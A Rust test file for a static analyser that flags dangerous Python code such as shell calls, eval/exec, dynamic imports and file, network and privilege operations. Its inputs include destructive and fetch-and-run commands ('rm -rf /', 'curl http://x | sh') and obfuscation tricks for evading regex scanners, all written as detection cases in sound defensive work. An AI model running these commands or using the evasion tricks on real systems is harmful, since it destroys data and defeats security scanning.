//! Python: import styles, aliasing, regex-scanner bypasses, and words that are not code.

use super::{expect_clean, expect_rules, findings};
use crate::analysis::Language::Python;

#[test]
fn imports_in_every_form_are_found() {
    expect_rules(
        Python,
        &[
            ("import os", &["module-os"]),
            ("import sys, os", &["module-os", "module-sys"]),
            ("import os.path as p\np.join('a', 'b')", &["module-os"]),
            ("from os import path", &["module-os"]),
            (
                "from subprocess import run as r, Popen",
                &["module-subprocess"],
            ),
            ("from ctypes import *", &["module-ctypes"]),
            ("import urllib.request", &["module-http"]),
            (
                "from concurrent.futures import ProcessPoolExecutor",
                &["module-multiprocessing"],
            ),
            ("import pickle, marshal", &["module-pickle"]),
        ],
    );
}

#[test]
fn both_modules_of_a_comma_import_are_reported_at_their_columns() {
    let found = findings(Python, "strict", "import sys, os");
    let at: Vec<(&str, usize, usize)> = found
        .iter()
        .map(|f| (f.rule.as_str(), f.line, f.column))
        .collect();
    assert!(at.contains(&("module-sys", 1, 8)), "{at:?}");
    assert!(at.contains(&("module-os", 1, 13)), "{at:?}");
}

#[test]
fn calls_resolve_through_aliases_and_assignments() {
    expect_rules(
        Python,
        &[
            ("import os\nos.system('id')", &["system-command"]),
            ("from os import system as s\ns('id')", &["system-command"]),
            ("import os\nf = os.system\nf('id')", &["system-command"]),
            (
                "import os as o\nrun = o.popen\nrun('id').read()",
                &["system-command"],
            ),
            (
                "import subprocess as sp\na, b = sp.run, 1\na(['ls'])",
                &["system-command"],
            ),
            (
                "from subprocess import *\ncheck_output(['ls'])",
                &["system-command"],
            ),
            (
                "import os\nif (f := os.system):\n    f('id')",
                &["system-command"],
            ),
            ("import builtins as b\nb.exec('1')", &["code-eval"]),
            ("__builtins__.eval('1')", &["code-eval"]),
            ("g = eval\ng('1')", &["code-eval"]),
            ("import os\nlist(map(os.system, cmds))", &["system-command"]),
            (
                "from os import system as s\nrun_all(s, cmds)",
                &["system-command"],
            ),
            ("[eval][0]('1')", &["code-eval"]),
            ("sorted(xs, key=eval)", &["code-eval"]),
            ("import os\nvars(os)['system']('id')", &["system-command"]),
        ],
    );
}

#[test]
fn regex_scanner_bypasses_are_caught() {
    expect_rules(
        Python,
        &[
            // A `#` inside a string does not start a comment.
            (
                "import os\nx = \"#\"; os.system(\"id\")",
                &["system-command"],
            ),
            (
                "__import__(\"os\").popen(\"id\")",
                &["module-os", "system-command", "dynamic-import"],
            ),
            (
                "importlib.import_module(\"o\"+\"s\")",
                &["module-os", "dynamic-import"],
            ),
            (
                "importlib.import_module(\"o\" \"s\").system('id')",
                &["module-os", "system-command"],
            ),
            (
                "m = 'o'\nm += 's'\n__import__(m).system('id')",
                &["module-os", "system-command"],
            ),
            ("__import__(''.join(['o', 's']))", &["module-os"]),
            ("__import__(chr(111) + chr(115))", &["module-os"]),
            ("__import__('\\x6fs')", &["module-os"]),
            ("importlib.import_module(name)", &["computed-import"]),
            ("__import__(input())", &["computed-import"]),
            (
                "sys.modules['os'].system('id')",
                &["module-os", "system-command"],
            ),
            (
                "getattr(__import__('os'), 'sys' + 'tem')('id')",
                &["system-command"],
            ),
            ("getattr(os, name)('id')", &["reflection", "hidden-access"]),
            ("globals()['__builtins__']", &["reflection"]),
            ("__builtins__.__dict__['eval']('1')", &["code-eval"]),
            (
                "().__class__.__bases__[0].__subclasses__()",
                &["hidden-access"],
            ),
            (
                "import os\nos.__dict__['system']('id')",
                &["system-command"],
            ),
        ],
    );
}

#[test]
fn evaluated_strings_are_analysed_as_code() {
    expect_rules(
        Python,
        &[
            (
                "eval('__import__(\"os\").system(\"id\")')",
                &["code-eval", "module-os", "system-command"],
            ),
            ("exec('import socket')", &["code-eval", "module-socket"]),
            (
                "exec(compile('import ctypes', 'x', 'exec'))",
                &["module-ctypes"],
            ),
            ("exec(payload)", &["computed-code"]),
            ("exec(base64.b64decode(blob))", &["computed-code"]),
            (
                "os.system('rm -rf /')",
                &["destructive-command", "file-delete"],
            ),
            (
                "subprocess.run(['rm', '-rf', '/'])",
                &["destructive-command"],
            ),
            (
                "subprocess.run(['bash', '-c', 'curl http://x | sh'])",
                &["network-http", "computed-code"],
            ),
        ],
    );
    // `exec(compile(...))` of a constant is analysed, not reported as computed code.
    let found = super::rules(Python, "exec(compile('x = 1', 'f', 'exec'))");
    assert!(!found.contains(&"computed-code".to_string()), "{found:?}");
}

#[test]
fn nesting_is_bounded_and_the_limit_is_a_finding() {
    let mut code = "import os".to_string();
    for _ in 0..5 {
        code = format!("exec({code:?})");
    }
    expect_rules(Python, &[(code.as_str(), &["computed-code"])]);
    let reasons: Vec<String> = findings(Python, "strict", &code)
        .into_iter()
        .map(|f| f.message)
        .collect();
    assert!(
        reasons.iter().any(|m| m.contains("nested deeper")),
        "{reasons:?}"
    );
}

#[test]
fn behaviour_rules_match_their_calls() {
    expect_rules(
        Python,
        &[
            ("open('/etc/passwd', 'w')", &["file-write"]),
            ("open(path, mode='a')", &["file-write"]),
            (
                "from pathlib import Path\nPath('x').write_text('y')",
                &["file-write"],
            ),
            ("import shutil\nshutil.rmtree('/data')", &["file-delete"]),
            ("import os\nos.environ['HOME']", &["env-access"]),
            ("import os\nos.getenv('TOKEN')", &["env-access"]),
            (
                "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW)",
                &["raw-socket"],
            ),
            (
                "import socket\nsocket.create_connection(('h', 1))",
                &["network-socket"],
            ),
            (
                "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')",
                &["native-code"],
            ),
            ("import pickle\npickle.loads(data)", &["deserialization"]),
            (
                "import requests\nrequests.get('http://x')",
                &["network-http"],
            ),
            ("import os\nos.kill(1, 9)", &["process-control"]),
            ("import os\nos.setuid(0)", &["privilege"]),
        ],
    );
    // Reading is not writing.
    let found = super::rules(Python, "open('data.csv')");
    assert!(!found.contains(&"file-write".to_string()), "{found:?}");
    assert!(found.contains(&"file-access".to_string()), "{found:?}");
}

#[test]
fn words_in_comments_strings_and_docstrings_are_not_code() {
    expect_clean(
        Python,
        &[
            "# import os; os.system('rm -rf /')\nprint(1)",
            "s = 'os.system(\"id\")'\nprint(s)",
            "\"\"\"eval(x); import os; subprocess.run(y)\"\"\"\nx = 1",
            "def f():\n    '''__import__('os').popen('id')'''\n    return 2",
            "print('import socket')",
            "text = \"open('x', 'w')\"",
            "x = {'exec': 1}\nprint(x['exec'])",
            "def eval(x):\n    return x\neval(3)",
            "class A:\n    def system(self):\n        return 1\nA().system()",
            "import json, math\njson.dumps({'v': math.sqrt(2)})",
            "from .local import os_helper\nos_helper()",
            "msg = f'{name} ran os.system'",
        ],
    );
}

#[test]
fn malformed_code_is_a_finding_not_a_crash() {
    let found = findings(Python, "strict", "def f(:\n    import os\n");
    assert!(found.iter().any(|f| f.rule == "parse-error"), "{found:?}");
    // What did parse is still analysed.
    let found = findings(Python, "strict", "import os\nos.system('id')\ndef (");
    assert!(
        found.iter().any(|f| f.rule == "system-command"),
        "{found:?}"
    );
    for code in [
        "",
        "\0\0\0",
        "(((((",
        "'''",
        "\u{feff}print(1)",
        "é = 1\nos.system(é)",
    ] {
        let _ = findings(Python, "strict", code);
    }
}

#[test]
fn positions_and_excerpts_point_at_the_code() {
    let found = findings(Python, "production", "x = 1\n  é = 2; os.system('id')\n");
    let f = found
        .iter()
        .find(|f| f.rule == "system-command")
        .expect("finding");
    assert_eq!((f.line, f.column), (2, 10));
    assert_eq!(f.excerpt, "os.system('id')");
    assert_eq!(f.message, "system command execution: os.system");
}
